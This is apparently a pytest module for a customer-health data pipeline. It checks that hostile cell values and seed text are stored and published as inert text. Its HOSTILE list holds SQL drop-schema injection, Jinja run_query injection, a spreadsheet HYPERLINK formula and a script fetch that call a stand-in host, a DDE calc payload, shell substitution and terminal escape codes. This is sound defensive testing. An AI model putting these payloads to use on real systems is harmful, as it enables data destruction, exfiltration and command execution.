"""What somebody writes into a cell to do harm comes out as the text it is: SQL, Jinja, shell, HTML,
formulas and terminal codes, in every input and in the words of the seeds."""

import csv
import json
import re
from pathlib import Path

import duckdb
import pytest
from customer_health.inputs.raw_files import read_contract
from place import CANARY, DAY, HEADER, Done, Place
from project import copy_project, write_csv

# First of all they look like what a spreadsheet would compute, or like the end of a statement.
HOSTILE = (
    "'; drop schema marts cascade; --",
    "{{ env_var('CANARY') }}{% do run_query('drop schema marts cascade') %}",
    '=HYPERLINK("http://example.invalid/?"&A2)',
    "<script>fetch('//example.invalid')</script>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${CANARY} $(touch owned) `touch owned`",
    "\u001b]0;owned\u0007\u001b[2J",
    "-- /* */ \\' \" %s %(x)s {0} \u202e",
)
# In our own words a formula and Jinja are faults (tests/data/broken_seeds.yml); these come through.
WORDS = "O'Brien; drop schema marts cascade; -- <b onclick=alert(1)>${CANARY}</b> \\' %s {0}"
SEEDS = {
    "grades.csv": "label",
    "segments.csv": "label",
    "features.csv": "label",
    "metrics.csv": "description",
    "scorecards.csv": "description",
    "score_caps.csv": "reason",
    "playbooks.csv": "action",
    "alert_rules.csv": "description",
    "trust.csv": "description",
}


def hostile_seeds(project: Path) -> None:
    """Hostile words in every free text of the seeds."""
    for name, column in SEEDS.items():
        path = project / "seeds" / "scoring" / name
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, rows[0].keys(), lineterminator="\n")
            writer.writeheader()
            writer.writerows(row | {column: WORDS} for row in rows)


def hostile_inputs(place: Place) -> None:
    """For every hostile text an account with that id, name, owner, industry and region, and rows in
    every other input that have it in every column of text."""
    moments = {"expires_at": "2026-03-20", "ended_at": "", "term_ends_at": "2026-12-31"}
    known = {"kind": "recurring", "survey_type": "nps", "currency": "", "parent_account_id": ""}
    for contract in read_contract():
        rows = []
        for text in HOSTILE:
            cells = {}
            for column in contract.columns:
                if column.type == "varchar":
                    cells[column.name] = known.get(column.name, text)
                elif column.type == "timestamp":
                    late = column.name.startswith(("updated", "deleted"))
                    cells[column.name] = "" if late else moments.get(column.name, "2026-01-20")
                else:
                    cells[column.name] = "" if column.type == "boolean" else "3"
            rows.append(cells | {'x"; drop table y; --': text})
        path = write_csv(place.inbox, contract.name, [], "a'; drop table b; --.csv")
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, rows[0].keys(), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    steady = [f"e{day},plain,,2026-02-{day:02},login" for day in range(1, 28)]
    write_csv(place.inbox, "usage_events", [HEADER, *steady], "steady.csv")
    lines = ["account_id,created_at", "plain,2026-01-01"]
    write_csv(place.inbox, "accounts", lines, "steady.csv")
    lines = ["subscription_id,account_id,started_at", "plain,plain,2026-01-01"]
    write_csv(place.inbox, "subscriptions", lines, "steady.csv")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Place, Done]:
    """A refresh of hostile inputs under hostile seeds."""
    folder = tmp_path_factory.mktemp("hostile")
    project = copy_project(folder / "project")
    hostile_seeds(project)
    place = Place(folder / "place", {}, project)
    hostile_inputs(place)
    return place, place.refresh("--json", "--as-of", "2026-02-27")


def test_the_run_publishes(attacked: tuple[Place, Done]) -> None:
    place, done = attacked

    assert done.code == 0, done.err
    assert {one["state"] for one in json.loads(done.out)["landed"]} == {"landed"}
    assert place.accounts().lost == 0
    assert place.rows("select accounts from marts.mart_status") == [(len(HOSTILE) + 1,)]


@pytest.mark.parametrize("column", ["account_id", "account_name", "owner", "industry", "region"])
def test_cells_of_accounts_are_published_as_they_came(
    attacked: tuple[Place, Done], column: str
) -> None:
    place, _ = attacked
    found = place.rows(f"select {column} from marts.customer_health where account_id <> 'plain'")

    assert {text for (text,) in found} == set(HOSTILE)


def test_cells_of_every_input_are_landed_as_they_came(attacked: tuple[Place, Done]) -> None:
    place, _ = attacked
    for contract in read_contract():
        files = [str(p) for p in (place.raw / contract.name).glob("batch-*.parquet")]
        for name in [contract.columns[0].name, "account_id", '"x""; drop table y; --"']:
            rows = duckdb.execute(
                f"select distinct {name} from read_parquet(?, union_by_name = true)"
                " where _source_file like 'a%'",
                [files],
            ).fetchall()
            assert {text for (text,) in rows} == set(HOSTILE), (contract.name, name)


def test_words_of_the_seeds_are_published_as_they_are(attacked: tuple[Place, Done]) -> None:
    place, _ = attacked
    assert place.rows("select distinct label from marts.customer_health") == [(WORDS,)]
    actions = place.rows("select distinct action from marts.fct_recommended_actions")
    assert actions == [(WORDS,)]


def test_no_cell_of_the_csv_is_a_formula(attacked: tuple[Place, Done]) -> None:
    place, _ = attacked
    path = place.published / "current" / "customer_health.csv"
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    texts = [row[name] for row in rows for name in ("account_id", "account_name", "owner")]

    assert len(rows) == len(HOSTILE) + 1
    # Also where a program takes a semicolon for the end of a cell.
    assert not [text for text in texts if re.search(r"(^|[;\t\r\n])\s*[=+@-]", text)]
    assert {text.replace("'", "") for text in texts} >= {t.replace("'", "") for t in HOSTILE}


def test_nothing_was_carried_out(attacked: tuple[Place, Done]) -> None:
    place, done = attacked
    assert not list(place.folder.parent.rglob("owned"))
    written = [p for p in place.folder.rglob("*") if p.is_file()]
    assert len(written) > 100
    assert not [p for p in written if CANARY.encode() in p.read_bytes()]
    assert CANARY not in done.out + done.err


@pytest.mark.parametrize(
    "script, arguments", [("show_health.py", ()), ("explain.py", (HOSTILE[6],))]
)
def test_no_terminal_is_driven(
    attacked: tuple[Place, Done], script: str, arguments: tuple[str, ...]
) -> None:
    place, done = attacked
    shown = place.run(script, *arguments)

    assert shown.code == 0, shown.err
    assert "\\x1b]0;owned" in shown.out
    assert "\x1b" not in shown.out + done.out + done.err
    assert DAY[:7] in shown.out
